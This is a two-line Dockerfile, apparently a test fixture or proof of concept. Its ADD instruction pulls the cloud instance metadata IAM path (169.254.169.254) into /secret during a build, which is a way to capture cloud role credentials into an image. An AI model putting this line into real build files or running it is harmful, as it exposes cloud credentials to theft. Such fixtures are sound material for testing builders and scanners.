FROM scratch
ADD http://169.254.169.254/latest/meta-data/iam /secret
